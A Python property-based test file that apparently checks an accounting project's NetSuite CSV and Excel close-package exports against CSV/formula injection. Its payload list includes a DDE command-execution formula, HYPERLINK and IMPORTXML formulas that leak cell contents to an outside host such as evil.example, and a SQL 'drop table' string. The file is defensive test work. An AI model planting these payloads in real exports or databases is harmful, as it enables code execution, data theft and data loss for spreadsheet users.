"""Hostile text never becomes a formula in an export (Hypothesis), and never crashes one.

Sources of the rule: OWASP "CSV Injection" and OWASP ASVS 4.0 requirement 5.3.x / ASVS 5.0
requirement 1.2.10 ("special characters (including '=', '+', '-', '@', '\\t' (tab), and
'\\0' (null character)) must be escaped with a single quote if they appear as the first
character in a field value", for CSV, XLS, XLSX and ODF exports), plus carriage return from
the OWASP CSV-injection page; CWE-1236 gives the apostrophe as the mitigation.

Every export the project writes is checked: the NetSuite journal import CSV
(infra_accounting.close.netsuite) and the close package workbook
(infra_accounting.close_package.workbook), end to end through a published snapshot.
"""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

import duckdb
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from infra_accounting.close import netsuite
from infra_accounting.close_package import workbook
from infra_accounting.dashboard.data import SnapshotReader
from infra_accounting.publish import publish_snapshot

# ASVS 1.2.10 and the OWASP CSV-injection page: a cell starting with one of these is a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\x00")
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "'); drop table marts.fct_journal_entries; --",
    "=IMPORTXML(CONCAT(\"http://x/\", A1), \"//a\")",
)
hostile_text = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(lambda trigger, rest: trigger + rest, st.sampled_from(FORMULA_TRIGGERS), st.text(max_size=40)),
    st.text(max_size=60),
)


def is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_TRIGGERS)


@given(hostile_text)
def test_netsuite_neutralise_never_leaves_a_formula_and_keeps_the_text(text):
    safe = netsuite.neutralise(text)
    assert not is_formula(safe)
    assert safe in (text, "'" + text)  # nothing else altered: the apostrophe is the only change


@given(hostile_text)
def test_workbook_cell_value_never_leaves_a_formula(text):
    value = workbook._cell_value(text)
    assert isinstance(value, str) and not is_formula(value)


def _journal_warehouse(path: Path, memos: list[str]) -> Path:
    """A warehouse holding fct_journal_entries (and dim_periods) whose text is hostile."""
    path.unlink(missing_ok=True)
    with duckdb.connect(str(path)) as connection:
        connection.execute("create schema marts")
        connection.execute(
            "create table marts.fct_journal_entries (journal_id varchar, journal_line_number integer,"
            " subsidiary_id varchar, period_month date, posting_date date, account_number varchar,"
            " debit_amount decimal(18, 2), credit_amount decimal(18, 2), currency_code varchar, journal_type varchar,"
            " source_area varchar, source_document_id varchar, memo varchar)"
        )
        rows = []
        for index, memo in enumerate(memos):
            journal = f"J-{index}"
            rows.append((journal, 1, "US01", date(2026, 10, 1), date(2026, 10, 31), "1010", Decimal("10.00"),
                         Decimal("0.00"), "USD", "manual", "close", memo, memo))
            rows.append((journal, 2, "US01", date(2026, 10, 1), date(2026, 10, 31), "4000", Decimal("0.00"),
                         Decimal("10.00"), "USD", "manual", "close", memo, memo))
        connection.executemany("insert into marts.fct_journal_entries values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", rows)
        connection.execute(
            "create table marts.dim_periods as select date '2026-10-01' as period_month, true as is_close_period"
        )
    return path


@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(hostile_text, min_size=1, max_size=6))
def test_every_export_cell_is_neutralised_and_text_survives(tmp_path, memos):
    memos = memos + list(PAYLOADS)
    warehouse = _journal_warehouse(tmp_path / "close.duckdb", memos)

    # NetSuite import CSV: every cell read back by a CSV reader is not a formula, and the
    # text is the extract's text (less the neutralising apostrophe).
    export = netsuite.export(warehouse, "2026-10", tmp_path / "out")
    with export.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    assert len(rows) == 2 * len(memos)  # a CR or LF in a memo does not start a new row
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if is_formula(cell)]
    cell_set = set(cells)
    assert [memo for memo in memos if memo not in cell_set and "'" + memo not in cell_set] == []

    # Close package workbook through a published snapshot: no string cell is a formula
    # (the SUM totals the package writes itself are the only formulas, in amount columns).
    snapshot = publish_snapshot(warehouse, tmp_path / "published.duckdb", close_period="2026-10")
    with SnapshotReader.open(snapshot) as reader:
        path, _ = workbook.build_workbook(reader, date(2026, 10, 1), tmp_path / "package.xlsx")
    book = load_workbook(path)
    sheet = book["journal_entries"]
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        for name, cell in zip(header, row):
            if isinstance(cell.value, str) and is_formula(cell.value):
                assert cell.value.startswith("=SUM(") and name in ("debit_amount", "credit_amount"), (name, cell.value)
            assert cell.data_type != "f" or name in ("debit_amount", "credit_amount"), (name, cell.value)
